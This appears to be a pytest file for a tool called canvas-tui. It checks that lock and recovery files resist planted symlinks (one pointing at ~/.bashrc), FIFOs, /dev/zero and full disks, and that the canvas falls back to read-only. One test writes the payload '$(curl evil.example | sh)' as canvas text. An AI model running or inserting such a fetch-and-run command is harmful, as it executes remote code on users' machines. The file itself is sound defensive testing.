"""The files a session keeps beside a canvas (lock, recovery), when someone planted something there
or the disk refuses them: nothing is written, read or removed through a link, nothing hangs, and a
lock that cannot be written opens the canvas read-only instead of failing.

Without Textual: every call runs to completion (a call that would block runs in a thread, bounded).
"""

from __future__ import annotations

import contextlib
import errno
import os
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from tests.waiting import in_time

from canvas_tui.files import recovery
from canvas_tui.files.atomic import FileRefused
from canvas_tui.files.lock import Instance, lock_path, read_lock
from canvas_tui.session import Session
from canvas_tui.storage import CanvasFile

ME = Instance("here", 4242, "", "me", "2026-12-01T10:00:00")
GONE = Instance("here", 4243, "", "gone", "2026-11-30T10:00:00")


def open_session(path: Path) -> Session:
    session = Session(CanvasFile.load(path), me=ME, alive=lambda instance: instance.token == ME.token)
    in_time(session.claim)
    return session


# -- point 1: a planted recovery file ---------------------------------------------------------------


def test_a_planted_recovery_link_is_never_written_read_or_removed(example: Path, bashrc: Path) -> None:
    """`.canvas.toml.recovery -> ../../.bashrc` in a clone: editing must not replace ~/.bashrc."""
    planted = recovery.recovery_path(example)
    planted.symlink_to(os.path.relpath(bashrc, planted.parent))
    session = open_session(example)
    assert session.holds_lock
    assert session.recovery_offers() == []
    assert session.refused == [
        f"{planted}: is a symbolic link; canvas-tui does not follow links it did not create"
    ]
    session.set_text("lifetime", "$(curl evil.example | sh)")
    assert session.write_recovery_now(), "the edits are kept all the same, under a name of our own"
    assert session.recovery_path == recovery.recovery_path(example, ME.token)
    kept = recovery.read(session.recovery_path)
    assert kept is not None and kept.mine.blocks["lifetime"].text == "$(curl evil.example | sh)"
    with pytest.raises(FileRefused) as caught:
        recovery.write(planted, example, kept.base or kept.mine, kept.mine, ME)
    assert (
        str(caught.value)
        == f"{planted}: is a symbolic link; canvas-tui does not follow links it did not create"
    )
    session.close()
    assert bashrc.read_text(encoding="utf-8") == "alias ll='ls -l'\n"
    assert planted.is_symlink(), "a clean exit leaves the planted link where it is"
    assert not os.path.lexists(recovery.recovery_path(example, ME.token)), "and removes our own file"


def test_edits_kept_beside_a_planted_link_are_offered_after_a_crash(example: Path, bashrc: Path) -> None:
    planted = recovery.recovery_path(example)
    planted.symlink_to(bashrc)
    crashed = Session(CanvasFile.load(example), me=GONE, alive=lambda instance: False)
    crashed.claim()
    crashed.set_text("lifetime", "Typed before the crash.")
    assert crashed.write_recovery_now()
    lock_path(example).unlink()  # what is left of a crashed instance: its lock is stale anyway
    session = open_session(example)
    offers = session.recovery_offers()
    assert [offer.source.path for offer in offers] == [recovery.recovery_path(example, GONE.token)]
    assert planted.is_symlink() and bashrc.read_text(encoding="utf-8") == "alias ll='ls -l'\n"


def test_a_recovery_link_to_a_real_recovery_file_is_not_offered(example: Path, tmp_path: Path) -> None:
    """Even a link to edits that look like a crashed instance's: what a link says is never read."""
    elsewhere = tmp_path / "elsewhere.json"
    mine = CanvasFile.load(example).canvas.state()
    document = CanvasFile.load(example)
    document.canvas.set_text("lifetime", "Words slipped in from somewhere else.")
    recovery.write(elsewhere, example, mine, document.canvas.state(), GONE)
    recovery.recovery_path(example).symlink_to(elsewhere)
    session = open_session(example)
    assert session.recovery_offers() == []
    session.close()
    assert recovery.recovery_path(example).is_symlink() and elsewhere.exists()


@pytest.mark.parametrize("kind", ["fifo", "/dev/zero"])
def test_a_second_instance_recovery_name_that_is_no_file_never_hangs(example: Path, kind: str) -> None:
    name = recovery.recovery_path(example, "stranger")
    if kind == "fifo":
        os.mkfifo(name)
    else:
        name.symlink_to("/dev/zero")
    session = open_session(example)
    assert in_time(session.recovery_offers) == []
    assert len(session.refused) == 1 and str(name) in session.refused[0]
    session.close()
    assert os.path.lexists(name)


# -- the lock ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["link to a file", "link to /dev/zero", "fifo", "link to a fifo"])
def test_a_lock_name_that_is_no_regular_file_opens_read_only_and_stays(
    example: Path, bashrc: Path, tmp_path: Path, kind: str
) -> None:
    lock = lock_path(example)
    pipe = tmp_path / "pipe"
    if kind == "fifo":
        os.mkfifo(lock)
    else:
        if kind == "link to a fifo":
            os.mkfifo(pipe)
        lock.symlink_to({"link to a file": bashrc, "link to /dev/zero": Path("/dev/zero")}.get(kind, pipe))
    session = open_session(example)
    assert not session.holds_lock
    assert session.read_only
    assert str(lock) in session.read_only_reason and "\n" not in session.read_only_reason
    assert read_lock(example) is None
    session.close()
    assert os.path.lexists(lock), "not ours to remove"
    assert bashrc.read_text(encoding="utf-8") == "alias ll='ls -l'\n"


@pytest.mark.parametrize("code", [errno.ENOSPC, errno.EIO])
def test_a_lock_that_cannot_be_written_opens_read_only_and_leaves_no_empty_lock(
    example: Path, monkeypatch: pytest.MonkeyPatch, code: int
) -> None:
    """Point 5: a full disk when taking the lock was a traceback and a 0-byte lock left behind."""

    def full(fd: int, data: Any) -> int:
        raise OSError(code, os.strerror(code))

    monkeypatch.setattr(os, "write", full)
    session = open_session(example)
    monkeypatch.undo()
    assert not session.holds_lock and session.read_only
    assert session.read_only_reason == (
        f"could not be locked ({lock_path(example)}: cannot write the lock ({os.strerror(code)}))"
    )
    assert not os.path.lexists(lock_path(example))
    session.close()  # its presence file goes with it
    assert sorted(p.name for p in example.parent.iterdir()) == [example.name]


@pytest.mark.parametrize("code", [errno.EACCES, errno.EROFS, errno.ENOSPC])
def test_a_lock_that_cannot_be_created_opens_read_only(
    example: Path, monkeypatch: pytest.MonkeyPatch, code: int
) -> None:
    real_open = os.open
    lock = lock_path(example)

    def refuse(name: Any, flags: int, *args: Any, **kwargs: Any) -> int:
        if Path(name) == lock:
            raise OSError(code, os.strerror(code), str(name))
        return real_open(name, flags, *args, **kwargs)

    monkeypatch.setattr(os, "open", refuse)
    session = open_session(example)
    monkeypatch.undo()
    assert session.read_only and not session.holds_lock
    assert os.strerror(code) in session.read_only_reason
    assert not os.path.lexists(lock)


@contextlib.contextmanager
def tiny_disk(folder: Path) -> Iterator[Path]:
    """A real 64 KiB tmpfs (needs root); skips where mounting is not allowed."""
    folder.mkdir()
    if shutil.which("mount") is None:
        pytest.skip("no mount command here")
    mounted = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(folder)], capture_output=True, check=False
    )
    if mounted.returncode != 0:
        pytest.skip("cannot mount a small tmpfs here (needs root)")
    try:
        yield folder
    finally:
        subprocess.run(["umount", "-l", str(folder)], capture_output=True, check=False)


@pytest.mark.skipif(os.geteuid() != 0, reason="mounting a tmpfs needs root")
def test_a_really_full_disk_when_taking_the_lock(example: Path, tmp_path: Path) -> None:
    with tiny_disk(tmp_path / "disk") as disk:
        canvas = disk / "canvas.toml"
        shutil.copyfile(example, canvas)
        with contextlib.suppress(OSError), (disk / "filler").open("wb", buffering=0) as filler:
            while True:
                filler.write(b"\0" * 4096)
        session = open_session(canvas)
        assert session.read_only and "cannot write the lock" in session.read_only_reason
        assert not os.path.lexists(lock_path(canvas))
        session.close()
